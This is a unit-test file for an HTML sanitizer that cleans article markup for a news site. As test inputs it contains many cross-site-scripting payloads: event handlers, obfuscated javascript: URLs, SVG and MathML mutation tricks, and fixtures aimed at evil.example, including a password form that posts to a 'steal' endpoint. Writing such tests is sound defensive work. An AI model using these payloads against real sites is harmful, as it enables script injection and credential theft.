import { sanitizeArticleHtml } from './sanitize';

/** The sanitized markup, parsed back into an inert element so tests can look at it as a DOM. */
function clean(html: string): HTMLDivElement {
  const container = document.createElement('div');
  container.innerHTML = sanitizeArticleHtml(html);
  return container;
}

function allAttributes(root: Element): { tag: string; name: string; value: string }[] {
  return Array.from(root.querySelectorAll('*')).flatMap((el) =>
    Array.from(el.attributes).map((attr) => ({ tag: el.tagName.toLowerCase(), name: attr.name, value: attr.value })),
  );
}

function expectNothingActive(root: Element): void {
  expect(
    root.querySelector(
      'script, style, iframe, frame, frameset, object, embed, form, input, button, textarea, select, svg, math, base, meta, link, template, noscript',
    ),
  ).toBeNull();
  for (const { name, value } of allAttributes(root)) {
    expect(name).not.toMatch(/^on/i);
    expect(name).not.toBe('style');
    expect(value).not.toMatch(/^\s*(?:javascript|data|vbscript):/i);
  }
}

describe('sanitizeArticleHtml', () => {
  it('keeps paragraphs, emphasis, lists, quotes and tables', () => {
    const html =
      '<p>The <strong>council</strong> met <em>twice</em>.</p><ul><li>Trams</li><li>Ferries</li></ul>' +
      '<blockquote><p>We will build it.</p></blockquote><table><caption>Votes</caption><thead><tr><th>For</th></tr></thead>' +
      '<tbody><tr><td>12</td></tr></tbody></table><figure><img src="/pics/pier.jpg" alt="The pier"><figcaption>The pier.</figcaption></figure>';
    const root = clean(html);
    expect(root.querySelector('p strong')?.textContent).toBe('council');
    expect(root.querySelector('p em')?.textContent).toBe('twice');
    expect(Array.from(root.querySelectorAll('ul > li'), (li) => li.textContent)).toEqual(['Trams', 'Ferries']);
    expect(root.querySelector('blockquote p')?.textContent).toBe('We will build it.');
    expect(root.querySelector('table caption')?.textContent).toBe('Votes');
    expect(root.querySelector('th')?.textContent).toBe('For');
    expect(root.querySelector('td')?.textContent).toBe('12');
    expect(root.querySelector('figure img')?.getAttribute('alt')).toBe('The pier');
    expect(root.querySelector('figcaption')?.textContent).toBe('The pier.');
  });

  it('returns the same markup for the same input every time', () => {
    const html = '<p>Hello <a href="https://lantern.example/">there</a></p>';
    expect(sanitizeArticleHtml(html)).toBe(sanitizeArticleHtml(html));
  });

  it('returns an empty string for empty input', () => {
    expect(sanitizeArticleHtml('')).toBe('');
  });

  describe('scripts and event handlers', () => {
    it('removes script elements together with their code', () => {
      const root = clean('<p>Before</p><script>document.title = "owned"</script><p>After</p>');
      expect(root.querySelector('script')).toBeNull();
      expect(root.textContent).toBe('BeforeAfter');
    });

    it('removes scripts written in odd case or with attributes', () => {
      const root = clean('<SCRIPT src="https://evil.example/x.js"></SCRIPT><ScRiPt type="module">x()</ScRiPt><p>ok</p>');
      expect(root.innerHTML).toBe('<p>ok</p>');
    });

    it.each([
      '<img src="/pics/x.jpg" onerror="alert(1)">',
      '<p onclick="alert(1)">click</p>',
      '<a href="/a" onmouseover="alert(1)">hover</a>',
      '<body onload="alert(1)"><p>body</p></body>',
      '<p ONCLICK="alert(1)">loud</p>',
      '<img src=x onerror=alert(1)//>',
      '<details open ontoggle="alert(1)"><summary>s</summary></details>',
    ])('removes event handlers from %s', (html) => {
      const root = clean(html);
      expectNothingActive(root);
    });
  });

  describe('URLs', () => {
    it.each([
      'javascript:alert(1)',
      'JAVASCRIPT:alert(1)',
      ' javascript:alert(1)',
      'java&#x09;script:alert(1)',
      'java&#10;script:alert(1)',
      '&#106;avascript:alert(1)',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      'vbscript:msgbox(1)',
      '//evil.example/',
      '/\\evil.example/',
      'mailto:desk@lantern.example',
      'relative/path',
    ])('removes the link target %s but keeps the link text', (href) => {
      const root = clean(`<a href="${href}">read more</a>`);
      const link = root.querySelector('a');
      expect(link?.textContent).toBe('read more');
      expect(link?.hasAttribute('href')).toBe(false);
      expect(link?.hasAttribute('rel')).toBe(false);
    });

    it.each(['javascript:alert(1)', 'data:image/png;base64,iVBORw0KGgo=', 'data:image/svg+xml,<svg onload=alert(1)>', '//evil.example/p.jpg'])(
      'removes the image source %s',
      (src) => {
        const img = clean(`<img src="${src}" alt="x">`).querySelector('img');
        expect(img?.hasAttribute('src')).toBe(false);
      },
    );

    it('keeps http(s) and same-site URLs in href and src', () => {
      const root = clean('<a href="https://lantern.example/a">a</a><a href="/en/town/b">b</a><img src="http://lantern.example/c.jpg">');
      const [outside, inside] = Array.from(root.querySelectorAll('a'));
      expect(outside?.getAttribute('href')).toBe('https://lantern.example/a');
      expect(inside?.getAttribute('href')).toBe('/en/town/b');
      expect(root.querySelector('img')?.getAttribute('src')).toBe('http://lantern.example/c.jpg');
    });

    it('keeps a safe cite URL on a quote and drops an unsafe one', () => {
      const root = clean('<blockquote cite="https://lantern.example/source">a</blockquote><q cite="javascript:alert(1)">b</q>');
      expect(root.querySelector('blockquote')?.getAttribute('cite')).toBe('https://lantern.example/source');
      expect(root.querySelector('q')?.hasAttribute('cite')).toBe(false);
    });

    it('adds rel="noopener noreferrer" to links that leave the site', () => {
      const link = clean('<a href="https://coastguard.example/report">report</a>').querySelector('a');
      expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    });

    it('adds rel to outside links written in capitals', () => {
      const link = clean('<a href="HTTP://COASTGUARD.EXAMPLE">report</a>').querySelector('a');
      expect(link?.getAttribute('href')).toBe('http://coastguard.example/');
      expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    });

    it('adds no rel to same-site paths', () => {
      const link = clean('<a href="/en/harbour/ferry-returns">ferry</a>').querySelector('a');
      expect(link?.getAttribute('href')).toBe('/en/harbour/ferry-returns');
      expect(link?.hasAttribute('rel')).toBe(false);
    });

    it('replaces the feed’s own rel and drops its target', () => {
      const root = clean('<a href="https://x.example/" rel="opener" target="_blank">x</a><a href="/y" rel="opener">y</a>');
      const [outside, inside] = Array.from(root.querySelectorAll('a'));
      expect(outside?.getAttribute('rel')).toBe('noopener noreferrer');
      expect(outside?.hasAttribute('target')).toBe(false);
      expect(inside?.hasAttribute('rel')).toBe(false);
    });
  });

  describe('elements and attributes outside the allow-list', () => {
    it('removes iframes, frames, objects and embeds', () => {
      const root = clean(
        '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>' +
          '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><frameset><frame src="x"></frameset><p>text</p>',
      );
      expectNothingActive(root);
      expect(root.innerHTML).toBe('<p>text</p>');
    });

    it('removes forms and their controls', () => {
      const root = clean(
        '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="pw"></label>' +
          '<textarea>notes</textarea><select><option>a</option></select><button formaction="javascript:alert(1)">Send</button></form>',
      );
      expectNothingActive(root);
      expect(root.querySelector('label, option')).toBeNull();
    });

    it('removes style elements and style attributes', () => {
      const root = clean('<style>body { display: none }</style><p style="position:fixed;inset:0;background:url(javascript:alert(1))">covered</p>');
      expect(root.querySelector('style')).toBeNull();
      expect(root.querySelector('p')?.hasAttribute('style')).toBe(false);
      expect(root.textContent).toBe('covered');
    });

    it('removes class, data-* and aria-* attributes', () => {
      const p = clean('<p class="ad-banner" data-track="1" aria-hidden="true">visible</p>').querySelector('p');
      expect(p?.attributes).toHaveLength(0);
    });

    it('removes base, meta and link tags that would change the page', () => {
      const root = clean(
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>',
      );
      expect(root.innerHTML).toBe('<p>x</p>');
    });

    it('removes media elements', () => {
      const root = clean('<video src="https://lantern.example/v.mp4" poster="javascript:alert(1)"></video><audio src="/a.mp3"></audio><p>x</p>');
      expect(root.querySelector('video, audio')).toBeNull();
    });
  });

  describe('SVG, MathML and parser tricks', () => {
    it.each([
      '<svg onload="alert(1)"><circle r="10"></circle></svg>',
      '<svg><script>alert(1)</script></svg>',
      '<svg><a xlink:href="javascript:alert(1)"><text>click</text></a></svg>',
      '<svg><foreignObject><img src="x" onerror="alert(1)"></foreignObject></svg>',
      '<svg><animate onbegin="alert(1)" attributeName="x"></animate></svg>',
      '<svg><style><img src="x" onerror="alert(1)"></style></svg>',
      '<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)"></style></mglyph></table></mtext></math>',
      '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      '<template><img src="x" onerror="alert(1)"></template>',
      '<xmp><img src=x onerror=alert(1)></xmp>',
      '<!--<img src=x onerror=alert(1)>-->',
      '<p>a</p><![CDATA[<img src=x onerror=alert(1)>]]>',
      '<a href="https://ok.example/"><svg><a href="javascript:alert(1)">nested</a></svg></a>',
    ])('leaves nothing active in %s', (html) => {
      const root = clean(html);
      expectNothingActive(root);
    });
  });

  describe('DOM clobbering', () => {
    it('removes id and name attributes that could shadow document properties', () => {
      const root = clean(
        '<img id="getElementById" name="cookie" src="/pics/a.jpg"><a id="location" name="defaultView" href="/x">x</a>' +
          '<p id="__proto__">p</p><form id="forms"><input name="attributes"></form><span name="body">s</span>',
      );
      for (const { name } of allAttributes(root)) expect(['id', 'name']).not.toContain(name);
      expect(root.querySelector('[id], [name]')).toBeNull();
    });
  });

  describe('headings', () => {
    it('turns an h1 in a body into an h2 and keeps its content', () => {
      const root = clean('<h1>Storm <em>warning</em> issued</h1><p>Stay in.</p><h1>Second</h1>');
      expect(root.querySelector('h1')).toBeNull();
      const headings = Array.from(root.querySelectorAll('h2'));
      expect(headings.map((h) => h.textContent)).toEqual(['Storm warning issued', 'Second']);
      expect(headings[0]?.querySelector('em')?.textContent).toBe('warning');
    });

    it('turns a nested h1 into an h2 too', () => {
      const root = clean('<blockquote><h1>Quoted heading</h1></blockquote>');
      expect(root.querySelector('blockquote > h2')?.textContent).toBe('Quoted heading');
      expect(root.querySelector('h1')).toBeNull();
    });

    it('leaves other headings alone', () => {
      const root = clean('<h2>Two</h2><h3>Three</h3>');
      expect(root.innerHTML).toBe('<h2>Two</h2><h3>Three</h3>');
    });
  });

  describe('images', () => {
    it('loads images lazily and asynchronously', () => {
      const img = clean('<img src="/pics/pier.jpg" alt="The pier">').querySelector('img');
      expect(img?.getAttribute('loading')).toBe('lazy');
      expect(img?.getAttribute('decoding')).toBe('async');
      expect(img?.getAttribute('alt')).toBe('The pier');
    });

    it('gives an image without alt text an empty alt', () => {
      expect(clean('<img src="/pics/pier.jpg">').querySelector('img')?.getAttribute('alt')).toBe('');
    });

    it('drops srcset, which would bypass the URL allow-list', () => {
      const img = clean('<img src="/a.jpg" srcset="javascript:alert(1) 1x, https://evil.example/b.jpg 2x">').querySelector('img');
      expect(img?.hasAttribute('srcset')).toBe(false);
    });
  });
});
